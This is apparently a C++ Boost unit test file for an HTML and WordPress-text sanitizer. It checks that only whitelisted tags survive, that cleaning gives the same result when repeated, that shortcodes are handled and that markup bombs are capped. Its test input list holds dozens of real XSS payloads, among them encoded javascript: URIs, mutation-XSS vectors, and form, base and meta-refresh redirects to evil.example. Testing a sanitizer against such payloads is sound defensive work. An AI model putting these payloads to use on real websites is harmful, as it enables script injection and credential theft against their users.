// Markup of other people's making: what is kept, what is neutralised, and what a bomb comes to.
#include "libnetwork/learning/wordpress_text.hpp"

#include <boost/test/unit_test.hpp>

#include <chrono>
#include <regex>

namespace network::learning {
namespace {

std::string cleaned(std::string_view html) {
    return to_html(read_html(html).blocks);
}
std::string classic(std::string_view text) {
    return to_html(read_wordpress_text(text, "https://example.org").blocks);
}

/// A reader of its own for what came out: every tag one of the list, only links with attributes,
/// and nothing that looks like a tag left over. What is wrong, or empty.
std::string fault_in(std::string const& html) {
    static std::regex const tag{
        R"(</?(p|h2|h3|h4|ul|ol|li|blockquote|pre|strong|em|a|table|caption|tr|th|td|figure|figcaption)>)"
        R"(|<br>|<a href="(https?://|mailto:)[^"<>]*" rel="noopener">)"};
    auto const rest = std::regex_replace(html, tag, "");
    auto const mark = rest.find_first_of("<>");
    return mark == std::string::npos ? std::string{} : rest.substr(mark, 60);
}

char const* const attacks[] = {
    "<script>alert(1)</script>",
    "<p onclick=alert(1) onmouseover='alert(1)'>Hello</p>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='https://example.org/\" onclick=\"alert(1)'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<textarea><script>alert(1)</script></textarea><title></title><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<base href='https://evil.example/'><a href='/x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<b <script>alert(1)</script>0",
    "<a href=\"x\" <script>alert(1)</script>>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<p>un\xE2\x80\xA8"
    "closed <strong>bold <em>both</strong> rest",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
};

} // namespace

BOOST_AUTO_TEST_SUITE(markup_of_others)

BOOST_AUTO_TEST_CASE(nothing_but_what_is_allowed_comes_through) {
    for (auto const* attack : attacks)
        BOOST_TEST_CONTEXT(attack) {
            auto const out = cleaned(attack);

            BOOST_TEST(fault_in(out) == "");
            BOOST_TEST(out.find("javascript:") == std::string::npos);
            BOOST_TEST(out.find("<script") == std::string::npos);
        }
}

BOOST_AUTO_TEST_CASE(what_was_cleaned_stays_as_it_is_when_it_is_read_again) {
    for (auto const* attack : attacks)
        BOOST_TEST_CONTEXT(attack) {
            auto const once = cleaned(attack);

            BOOST_TEST(cleaned(once) == once);
        }
}

BOOST_AUTO_TEST_CASE(the_check_itself_sees_what_is_not_allowed) {
    BOOST_TEST(fault_in("<p onclick=\"x\">x</p>") != "");
    BOOST_TEST(fault_in("<a href=\"javascript:x\" rel=\"noopener\">x</a>") != "");
    BOOST_TEST(fault_in("<img src=\"x\">") != "");
    BOOST_TEST(fault_in("<p>x</p><a href=\"https://example.org/\" rel=\"noopener\">x</a>") == "");
}

BOOST_AUTO_TEST_CASE(a_plain_text_keeps_its_shape) {
    auto const out = cleaned(
        "<div><h1>Tools</h1><p>Four <b>hundred</b> &amp; more.</p><ul><li>Saws<li>Drills</ul>"
        "<table><tr><th>Year<td>2022</table>loose words</div>");

    BOOST_TEST(out == "<h2>Tools</h2>\n<p>Four <strong>hundred</strong> &amp; more.</p>\n"
                      "<ul><li>Saws</li><li>Drills</li></ul>\n"
                      "<table><tr><th>Year</th><td>2022</td></tr></table>\n<p>loose words</p>\n");
}

BOOST_AUTO_TEST_CASE(what_is_left_out_is_told_with_its_reason) {
    auto const read = read_html("<script>x</script><p><a href='javascript:x'>y</a></p>"
                                "<p><img alt='A saw' src='https://example.org/saw.jpg'></p>"
                                "<iframe src='https://video.example/1'></iframe>");

    std::string told;
    for (auto const& line : read.notes)
        told += line + '\n';
    BOOST_TEST(told == "Left out <script> and what stood in it\n"
                       "Unlinked an address that is neither of the web nor of mail\n"
                       "Pictures became links\n"
                       "Embedded pages and players became links\n");
    BOOST_TEST(to_html(read.blocks) == "<p>y</p>\n<p><a href=\"https://example.org/saw.jpg\" "
                                       "rel=\"noopener\">Picture: A saw</a></p>\n"
                                       "<p><a href=\"https://video.example/1\" "
                                       "rel=\"noopener\">https://video.example/1</a></p>\n");
}

BOOST_AUTO_TEST_CASE(classic_text_has_paragraphs_at_blank_lines) {
    BOOST_TEST(
        classic("One line\nand another\n\nA second <em>paragraph</em>\n\n<h2>Head</h2>\nAfter") ==
        "<p>One line<br>and another</p>\n<p>A second "
        "<em>paragraph</em></p>\n<h2>Head</h2>\n<p>After</p>\n");
}

BOOST_AUTO_TEST_CASE(block_text_loses_its_marks_alone) {
    BOOST_TEST(
        classic("<!-- wp:paragraph -->\n<p>One\nline</p>\n<!-- /wp:paragraph -->\n\n"
                "<!-- wp:list {\"ordered\":true} -->\n<ol><!-- wp:list-item -->\n<li>First</li>\n"
                "<!-- /wp:list-item --></ol>\n<!-- /wp:list -->") ==
        "<p>One\nline</p>\n<ol><li>First</li></ol>\n");
}

BOOST_AUTO_TEST_CASE(shortcodes_become_what_they_stand_for_and_brackets_stay) {
    auto const read =
        read_wordpress_text("[caption id=\"a\" width=\"3\"]<img src=\"/saw.jpg\" alt=\"\" /> A "
                            "saw[/caption]\n\n[gallery ids=\"1,2\"]\n\n"
                            "[embed]https://video.example/1[/embed]\n\nHe wrote [sic] and "
                            "[1].\n\n[vc_row][vc_column]Kept[/vc_column][/vc_row]"
                            "\n\n[embed]javascript:alert(1)[/embed]",
                            "https://example.org");

    BOOST_TEST(to_plain_text(read.blocks) == "Picture\nA saw\n\nhttps://video.example/1\n\nHe "
                                             "wrote [sic] and [1].\n\nKept\n\njavascript:alert(1)");
    BOOST_TEST(fault_in(to_html(read.blocks)) == "");
    BOOST_TEST(to_html(read.blocks).find("href=\"https://example.org/saw.jpg\"") !=
               std::string::npos);
}

BOOST_AUTO_TEST_CASE(bombs_are_capped) {
    auto const begun = std::chrono::steady_clock::now();
    std::string deep, many, formats, huge;
    for (int i = 0; i < 15'000; ++i)
        deep += "<div>";
    for (int i = 0; i < 200'000; ++i)
        many += "<b>x";
    for (int i = 0; i < 9'000; ++i)
        formats += "<b id=" + std::to_string(i) + ">";
    for (int i = 0; i < 9'000; ++i)
        formats += "<p>x";
    huge.assign(largest_markup + 1, 'x');
    for (auto const* bomb : {&deep, &many, &formats, &huge})
        BOOST_TEST_CONTEXT(bomb->substr(0, 20)) {
            auto const read = read_html(*bomb + "end");

            BOOST_TEST(fault_in(to_html(read.blocks)) == "");
            BOOST_TEST(to_html(read.blocks).size() <= 8 * largest_markup);
        }
    BOOST_TEST(!read_html(many).notes.empty());
    BOOST_TEST(!read_html(formats).notes.empty());
    BOOST_TEST(!read_html(huge).notes.empty());
    auto const took = std::chrono::steady_clock::now() - begun;
    BOOST_TEST(std::chrono::duration_cast<std::chrono::seconds>(took).count() < 30);
}

BOOST_AUTO_TEST_SUITE_END()

} // namespace network::learning
